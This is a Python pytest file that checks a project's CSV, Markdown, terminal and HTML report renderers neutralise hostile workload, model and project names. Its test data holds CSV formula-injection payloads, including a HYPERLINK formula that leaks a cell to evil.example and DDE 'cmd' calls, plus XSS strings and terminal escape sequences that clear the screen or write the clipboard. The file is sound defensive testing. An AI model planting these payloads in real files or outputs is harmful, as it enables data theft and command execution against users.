"""Names we do not control (workloads, tags, the project, model names from any server) cannot
inject anything into the outputs: formulas into spreadsheets, headings, rows, HTML or remote
images into Markdown, escape sequences into a terminal. Each output is read back with a real
reader (Python's csv module, markdown-it-py's CommonMark + GFM tables parser)."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from datetime import datetime, timezone
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from frugal_ai.config import Settings
from frugal_ai.demo.ledger_file import write_records
from frugal_ai.ledger.records import ApiCallRecord, RunRecord

# OWASP CSV injection: cells starting with these are formulas to a spreadsheet.
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE_WORKLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "name with\rCR inside",
    "name with\nLF inside",
    "semi;colon, comma \"quoted\"",
]
HOSTILE_MODELS = [
    "gpt\n# Pwned heading",
    "row\rsplit | fake | cells",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/t.png)",
    "[click me](http://evil.example/)",
    "\x1b[2Jcleared",
    "\x1b]52;c;ZXZpbA==\x07clipboard",
    "\x9b31mred",
]
HOSTILE_PROJECT = "=cmd|' /C calc'!A0"


def _ts(day: int, hour: int = 0) -> float:
    return datetime(2026, 7, day, hour, tzinfo=timezone.utc).timestamp()


@pytest.fixture(scope="module")
def hostile_ledger(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "ledger.sqlite"
    recs: list[RunRecord | ApiCallRecord] = []
    for i, name in enumerate(HOSTILE_WORKLOADS):
        recs.append(RunRecord(id=f"run-{i}", name=name, start=_ts(1 + i), end=_ts(1 + i, 1), zone="FR",
                              method="rapl+ram_model", cpu_kwh=0.1, ram_kwh=0.01, project=HOSTILE_PROJECT,
                              tags={"team": "=1+1", "@x": "-y"}))
    for i, model in enumerate(HOSTILE_MODELS):
        recs.append(ApiCallRecord(id=f"call-{i}", provider="openai", model=model, start=_ts(1 + i, 2),
                                  end=_ts(1 + i, 2) + 1, input_tokens=100, output_tokens=50, name=HOSTILE_WORKLOADS[i],
                                  project=HOSTILE_PROJECT, source="capture"))
    write_records(path, recs)
    return path


@pytest.fixture(scope="module")
def report(hostile_ledger: Path):  # type: ignore[no-untyped-def]
    from frugal_ai.report import Period, build_report

    settings = Settings(country="FR", ledger=hostile_ledger, project="hostile")
    return build_report(hostile_ledger, Period(label="all"), settings=settings)


def _is_neutral(cell: str) -> bool:
    return not cell.startswith(FORMULA_LEADS)


# --- CSV -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("lang, delimiter", [("en", ","), ("fr", ";")])
def test_report_csv_neutralises_formulas_and_round_trips_every_row(report, lang: str, delimiter: str) -> None:  # type: ignore[no-untyped-def]
    from frugal_ai.report import render

    rows = list(csv.reader(io.StringIO(render(report, "csv", lang), newline=""), delimiter=delimiter))
    header, body = rows[0], rows[1:]
    assert len(body) == len(report.lines), "a CR or LF inside a name split or merged rows"
    assert all(len(r) == len(header) for r in body)
    workloads = [r[0] for r in body]
    assert all(_is_neutral(c) for row in body for c in row[:3]), workloads
    # Neutralised by one leading apostrophe, as OWASP recommends; the rest of the name kept as it is.
    for name in HOSTILE_WORKLOADS:
        shown = "'" + name if name.startswith(FORMULA_LEADS) else name
        assert shown in workloads, (name, workloads)


def test_ledger_export_csv_neutralises_formulas_and_round_trips_every_record(hostile_ledger: Path) -> None:
    from frugal_ai.ledger.export import FIELDS, write_csv
    from frugal_ai.ledger.query import iter_records

    out = io.StringIO()
    with sqlite3.connect(hostile_ledger) as conn:
        n = write_csv(iter_records(conn), out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert n == len(rows) == len(HOSTILE_WORKLOADS) + len(HOSTILE_MODELS)
    assert all(set(r) == set(FIELDS) for r in rows)
    for r in rows:
        assert all(_is_neutral(v) for v in r.values()), r
        assert r["project"] == "'" + HOSTILE_PROJECT
    assert {r["name"] for r in rows} == {"'" + n if n.startswith(FORMULA_LEADS) else n for n in HOSTILE_WORKLOADS}
    assert {r["model"] for r in rows if r["kind"] == "api_call"} == {
        "'" + m if m.startswith(FORMULA_LEADS) else m for m in HOSTILE_MODELS}
    # Tags are a JSON object: their text starts with '{', so it needs nothing and stays valid JSON.
    assert all(json.loads(r["tags"]) == {"team": "=1+1", "@x": "-y"} for r in rows if r["kind"] == "run")


def test_the_csv_cell_rule() -> None:
    from frugal_ai.untrusted import csv_cell

    assert [csv_cell(s) for s in ("=1", "+1", "-1", "@1", "\t1", "\r1", "a=1", "", "ok")] == \
        ["'=1", "'+1", "'-1", "'@1", "'\t1", "'\r1", "a=1", "", "ok"]
    assert csv_cell(-1.5) == -1.5 and csv_cell(None) is None  # numbers and empty cells are not text


# --- Markdown ------------------------------------------------------------------------------------


def _md_tokens(text: str) -> list:  # type: ignore[type-arg]
    return MarkdownIt("commonmark").enable("table").enable("strikethrough").parse(text)


def _flat(tokens: list) -> list:  # type: ignore[type-arg]
    out = []
    for tok in tokens:
        out.append(tok)
        out += _flat(tok.children or [])
    return out


@pytest.mark.parametrize("lang", ["en", "fr"])
def test_markdown_keeps_every_name_inside_its_cell_or_sentence(report, lang: str) -> None:  # type: ignore[no-untyped-def]
    from frugal_ai.lang import texts
    from frugal_ai.report import render
    from frugal_ai.report.layout import Heading, Table, document

    md = render(report, "md", lang)
    tokens = _md_tokens(md)
    blocks = document(report, texts(lang))
    # As many headings and table rows as the report has: a newline cannot start a heading, a CR cannot split a row.
    assert sum(t.type == "heading_open" for t in tokens) == sum(isinstance(b, Heading) for b in blocks)
    assert sum(t.type == "tr_open" for t in tokens) == sum(len(b.rows) + 1 for b in blocks if isinstance(b, Table))
    flat = _flat(tokens)
    assert not [t for t in flat if t.type in ("html_block", "html_inline")], "raw HTML passed through"
    assert not [t for t in flat if t.type == "image"], "a remote image would be fetched"
    assert not [t for t in flat if t.type == "link_open" and "evil" in str(t.attrs.get("href", ""))]
    assert not [t for t in flat if t.type == "heading_open" and "Pwned" in md.split("\n")[t.map[0]]]
    # The names are still there, as text, to be read.
    text = "".join(t.content for t in flat if t.type in ("text", "code_inline"))
    for shown in ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "![x](http://evil.example/t.png)",
                  "# Pwned heading", "row split | fake | cells"):
        assert shown in text, shown


def test_the_markdown_value_rule() -> None:
    from frugal_ai.untrusted import markdown_text

    for hostile in HOSTILE_MODELS + HOSTILE_WORKLOADS + ["# heading", "> quote", "- item", "1. item", "a_b_c*d*"]:
        tokens = _flat(_md_tokens(f"{markdown_text(hostile)}\n"))
        assert [t.type for t in tokens if t.type.endswith("_open") or t.type == "image"] == ["paragraph_open"], hostile


# --- terminal and HTML ----------------------------------------------------------------------------


def test_terminal_table_has_no_control_characters(report) -> None:  # type: ignore[no-untyped-def]
    from frugal_ai.report import render

    for lang in ("en", "fr"):
        text = render(report, "table", lang)
        bad = sorted({c for c in text if (ord(c) < 32 and c not in "\n") or 0x7F <= ord(c) <= 0x9F})
        assert not bad, bad
        assert "cleared" in text and "clipboard" in text  # the name is shown, its escape sequence is not
        assert "]52;" not in text and "[2J" not in text


def test_the_terminal_rule() -> None:
    from frugal_ai.untrusted import terminal_text

    assert terminal_text("\x1b[2Jcleared") == "cleared"
    assert terminal_text("\x1b]52;c;ZXZpbA==\x07clip") == "clip"
    assert terminal_text("\x1b]52;c;ZXZpbA==\x1b\\clip") == "clip"
    assert terminal_text("a\x9b31mb") == "ab"
    assert terminal_text("line\nbreak\rreturn\ttab\x00\x7f") == "line break return tab"
    assert terminal_text("two\nlines\r", multiline=True) == "two\nlines "


def test_html_escaping_holds(report) -> None:  # type: ignore[no-untyped-def]
    from frugal_ai.report import render

    html = render(report, "html", "en")
    assert "<script>" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html

